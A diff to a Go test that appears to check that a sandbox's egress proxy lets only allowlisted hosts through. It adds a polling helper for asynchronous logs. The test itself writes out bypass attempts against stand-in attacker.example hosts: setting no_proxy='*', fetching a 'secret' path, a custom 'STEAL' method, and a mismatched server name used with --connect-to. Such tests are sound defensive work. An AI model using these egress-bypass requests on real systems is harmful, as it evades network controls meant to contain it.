@@ -189,14 +189,25 @@ func TestTheAllowedHostIsTheOnlyOne(t *testing.T) {
 		return "printf 'GET /tls HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect " + connect + " " + name + " 2>&1"
 	}
 
+	// arrived waits until the other machine's log, which the engine writes in its own time, says so.
+	arrived := func(before, want string) bool {
+		for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
+			if strings.Contains(strings.TrimPrefix(b.log(t), before), want) {
+				return true
+			}
+		}
+		return false
+	}
+
 	t.Run("control: the allowed host is reached", func(t *testing.T) {
-		if out, reached := ask(t, "curl -s http://shop.attacker.example/plain"); out != "public" || !strings.Contains(reached, "GET /plain") {
+		before := b.log(t)
+		if out, reached := ask(t, "curl -s http://shop.attacker.example/plain"); out != "public" || !arrived(before, "GET /plain") {
 			t.Errorf("plain: %q, %q", out, reached)
 		}
-		if out, reached := ask(t, "curl -sk https://shop.attacker.example/tls"); out != "public" || !strings.Contains(reached, "shop.attacker.example GET /tls") {
+		if out, reached := ask(t, "curl -sk https://shop.attacker.example/tls"); out != "public" || !arrived(before, "shop.attacker.example GET /tls") {
 			t.Errorf("TLS: %q, %q", out, reached)
 		}
-		if out, reached := ask(t, "curl -s http://registry.npmjs.org/package"); out != "public" || !strings.Contains(reached, "GET /package") {
+		if out, reached := ask(t, "curl -s http://registry.npmjs.org/package"); out != "public" || !arrived(before, "GET /package") {
 			t.Errorf("preset: %q, %q", out, reached)
 		}
 	})
@@ -253,10 +264,9 @@ func TestTheAllowedHostIsTheOnlyOne(t *testing.T) {
 			"--entrypoint", "bash", v.image(t), "-c", `export no_proxy='*'; curl -s -X PUT -d x http://registry.npmjs.org/package; curl -s http://private.attacker.example/secret
 				curl -s http://shop.attacker.example:8443/port; curl -sL http://shop.attacker.example/go; curl -s -X STEAL http://registry.npmjs.org/x
 				echo | timeout 5 openssl s_client -connect shop.attacker.example:443 -servername private.attacker.example >/dev/null 2>&1 && curl -sk --connect-to private.attacker.example:443:`+b.addr+`:443 https://private.attacker.example/front; true`)
-		got := strings.TrimPrefix(b.log(t), before)
 		for _, want := range []string{"PUT /package", "GET /secret", "GET /port", "private.attacker.example GET /front"} {
-			if !strings.Contains(got, want) {
-				t.Errorf("%q did not arrive: %q", want, got)
+			if !arrived(before, want) {
+				t.Errorf("%q did not arrive: %q", want, strings.TrimPrefix(b.log(t), before))
 			}
 		}
 	})
